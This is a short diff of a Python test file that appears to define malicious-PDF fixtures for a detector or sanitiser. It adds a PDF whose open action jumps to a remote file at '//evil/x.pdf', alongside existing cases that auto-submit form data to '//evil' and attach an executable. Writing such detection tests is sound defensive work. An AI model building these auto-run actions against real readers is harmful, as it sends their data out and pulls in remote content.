@@ -102,6 +102,10 @@ def _acting() -> Named:
             "pdf that sends what is filled in",
             pdf(_adding("/OpenAction", _action("/SubmitForm", F=TextStringObject("//evil")))),
         ),
+        (
+            "pdf that goes to another file",
+            pdf(_adding("/OpenAction", _action("/GoToR", F=TextStringObject("//evil/x.pdf")))),
+        ),
         ("pdf with a file", pdf(lambda writer: writer.add_attachment("a.exe", b"MZ"))),
         ("pdf with a dynamic form", pdf(_adding("/AcroForm", form))),
         (
